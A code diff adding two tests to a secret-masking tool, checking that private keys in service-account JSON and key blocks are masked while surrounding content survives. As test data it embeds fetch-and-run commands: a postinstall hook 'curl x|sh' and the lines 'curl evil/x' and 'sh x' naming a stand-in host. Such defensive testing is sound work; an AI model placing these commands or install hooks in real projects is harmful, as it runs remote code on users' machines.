@@ -3,7 +3,7 @@ import { describe, expect, it } from "vitest";
 import { secretlintDetector } from "../../../src/adapters/secrets/secretlint.ts";
 import { maskSecrets } from "../../../src/core/files/mask.ts";
 import { countProcessorTime } from "../../fixtures/processor-time.ts";
-import { GITHUB_TOKEN } from "../../fixtures/secrets.ts";
+import { GITHUB_TOKEN, PRIVATE_KEY } from "../../fixtures/secrets.ts";
 import { size } from "../../setup/tier.ts";
 
 const detector = secretlintDetector();
@@ -119,6 +119,21 @@ describe("a masked credential", () => {
       expect(await masked(`{"dsn":"${address(password)}","b":1}`, "a.json")).toBe(`{"dsn":"${SHOWN}","b":1}`);
     },
   );
+
+  it("is the key of a service account, and nothing else of its file", async () => {
+    const account = { private_key_id: "1", private_key: `${PRIVATE_KEY}\n`, scripts: { postinstall: "curl x|sh" } };
+    const shown = await masked(JSON.stringify(account), "package.json");
+    expect(JSON.parse(shown)).toEqual({ ...account, private_key: `${TAG}\n` });
+    const escaped = JSON.stringify(account).replace('private_key":', 'private\\u005fkey":');
+    expect(JSON.parse(await masked(escaped, "a.json"))).toEqual({ ...account, private_key: `${TAG}\n` });
+  });
+
+  it("is a private key as far as its lines are those of a key", async () => {
+    const [header, ...lines] = PRIVATE_KEY.split("\n");
+    const shown = await masked([header, ...lines.slice(0, -1), "curl evil/x", "sh x", lines.at(-1)].join("\n"), "a.sh");
+    expect(shown).toContain("curl evil/x\nsh x\n");
+    expect(shown).not.toContain(lines[1]);
+  });
 
   it.each([
     ["addresses", "postgres://u:Gh7kd92@"],
